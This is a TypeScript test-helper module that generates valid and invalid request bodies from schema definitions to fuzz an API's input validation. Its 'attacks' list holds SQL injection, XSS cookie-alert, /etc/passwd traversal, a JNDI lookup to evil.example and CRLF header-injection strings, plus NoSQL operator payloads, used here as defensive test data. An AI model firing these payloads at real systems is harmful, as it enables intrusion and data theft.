import { array, constant, constantFrom, integer, oneof, string } from 'fast-check';
import type { Arbitrary } from 'fast-check';
import { z } from 'zod';

/** What of a JSON Schema the market's documents use. */
export interface FieldSchema {
  readonly type?: string | undefined;
  readonly enum?: readonly unknown[] | undefined;
  readonly pattern?: string | undefined;
  readonly format?: string | undefined;
  readonly minLength?: number | undefined;
  readonly maxLength?: number | undefined;
  readonly minimum?: number | undefined;
  readonly maximum?: number | undefined;
  readonly properties?: Readonly<Record<string, FieldSchema>> | undefined;
  readonly required?: readonly string[] | undefined;
  /** False where a field that nobody knows is refused; elsewhere it is ignored. */
  readonly additionalProperties?: unknown;
  /** What a value that is not accepted is taken for. */
  readonly 'x-otherwise'?: string | undefined;
}

export const fieldSchema: z.ZodType<FieldSchema> = z.looseObject({
  type: z.string().optional(),
  enum: z.array(z.unknown()).optional(),
  pattern: z.string().optional(),
  format: z.string().optional(),
  minLength: z.number().optional(),
  maxLength: z.number().optional(),
  minimum: z.number().optional(),
  maximum: z.number().optional(),
  properties: z.lazy(() => z.record(z.string(), fieldSchema)).optional(),
  required: z.array(z.string()).optional(),
  additionalProperties: z.unknown().optional(),
  'x-otherwise': z.string().optional(),
});

/** Text as attackers send it: injection, scripts, traversal, control characters, too much. */
export const attacks: readonly string[] = [
  "' OR '1'='1",
  "1'; DROP TABLE account; --",
  '1 UNION SELECT user, password FROM mysql.user',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\u0000',
  'a\r\nSet-Cookie: SESSION=stolen',
  '\ud800',
  '9'.repeat(400),
  '-1',
  '1e9999',
];

/** Values that a field must not accept. */
export function badValue(field: FieldSchema): Arbitrary<unknown> {
  const wrongType = constantFrom<unknown>(null, [], {}, [1], { $gt: '' }, true);
  if (field.type === 'string') {
    const refused = attacks.filter((text) => !accepts(field, text));
    const tooLong = field.maxLength === undefined ? [] : ['x'.repeat(field.maxLength + 1)];
    const strange = string({ unit: 'binary', maxLength: 80 }).filter(
      (text) => !accepts(field, text),
    );
    // Of random text a free field refuses next to nothing; looking for it would take for ever.
    const isClosed = field.format !== undefined || field.enum !== undefined;
    return oneof(
      wrongType,
      constant(7),
      constantFrom(...refused, ...tooLong, ''.padEnd(70_000, 'x')),
      ...(isClosed ? [strange] : []),
    );
  }
  const { minimum = Number.MIN_SAFE_INTEGER, maximum = Number.MAX_SAFE_INTEGER } = field;
  return oneof(
    wrongType,
    constantFrom<unknown>('1', '1 OR 1=1', 1.5, -1e300, 1e300, minimum - 1, maximum + 1),
    integer({ min: Number.MIN_SAFE_INTEGER, max: minimum - 1 }),
  );
}

/** A value that a field accepts. */
export function goodValue(field: FieldSchema): unknown {
  if (field.enum !== undefined) return field.enum[0];
  if (field.type === 'integer') return field.minimum ?? 1;
  if (field.format === 'uuid') return '0193a5b0-7c00-7000-8000-00000000ffff';
  if (field.format === 'email') return 'hostile@market.example';
  if (field.format === 'uri') return 'https://market.example/x';
  return field.pattern?.includes('\\d') === true ? '5' : 'text';
}

/** A body that an operation accepts. */
export function goodBody({ properties = {} }: FieldSchema): Record<string, unknown> {
  return Object.fromEntries(
    Object.entries(properties).map(([name, field]) => [name, goodValue(field)]),
  );
}

/** Bodies that an operation must refuse: one field wrong, missing or too many, or no object at all. */
export function badBody(schema: FieldSchema): Arbitrary<unknown> {
  const { properties = {}, required = [], additionalProperties } = schema;
  const good = goodBody({ properties });
  const oneWrong = Object.entries(properties).map(([name, field]) =>
    badValue(field).map((value) => ({ ...good, [name]: value })),
  );
  const oneMissing = required.map((name) =>
    constant(Object.fromEntries(Object.entries(good).filter(([other]) => other !== name))),
  );
  const oneMore = constantFrom('id', 'role', 'constructor', 'createdDate', '$where').map(
    (name) => ({
      ...good,
      [name]: 1,
    }),
  );
  const noObject = oneof(constantFrom<unknown>(null, 1, 'text', [], {}), array(constant(good)));
  const strange = additionalProperties === false ? [oneMore] : [];
  return oneof(...oneWrong, ...oneMissing, ...strange, noObject);
}

function accepts(field: FieldSchema, text: string): boolean {
  const { enum: allowed, pattern, minLength = 0, maxLength = Infinity } = field;
  if (allowed !== undefined) return allowed.includes(text);
  if (text.trim().length < minLength || text.length > maxLength) return false;
  if (field.format === 'uri') return /^https?:/.test(text) && URL.canParse(text);
  return pattern === undefined || new RegExp(pattern, 'u').test(text);
}
